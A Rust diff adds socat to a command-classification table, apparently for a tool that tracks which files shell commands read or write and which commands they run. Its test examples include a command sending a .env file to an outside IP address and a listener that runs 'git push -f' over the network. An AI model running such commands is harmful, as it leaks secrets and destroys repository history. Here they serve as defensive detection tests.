@@ -181,6 +181,17 @@ pub(super) const PROGRAMS: &[Program] = &[
             Touches::Creates,
         )
     },
+    // socat: its addresses name files it reads and writes, and commands it runs.
+    Program {
+        runs: &[Runs::PrefixedOperands(&["EXEC:", "SYSTEM:"])],
+        examples: &[
+            Example("socat -u FILE:.env TCP:203.0.113.5:9000", Expect::Reads(".env")),
+            Example("socat - OPEN:.forge/runtime/state.json,creat", Expect::Writes(".forge/runtime/state.json")),
+            Example("socat TCP-LISTEN:9000 SYSTEM:'git push -f'", Expect::Runs("git push -f")),
+            Example("socat - TCP:localhost:8080", Expect::Inert(".forge")),
+        ],
+        ..touching(&["socat"], Options::new("dlLTbs", &[]), Touches::Own(Logic::Socat))
+    },
     Program {
         examples: &[
             Example("mount --bind /tmp/empty .forge", Expect::Writes(".forge")),
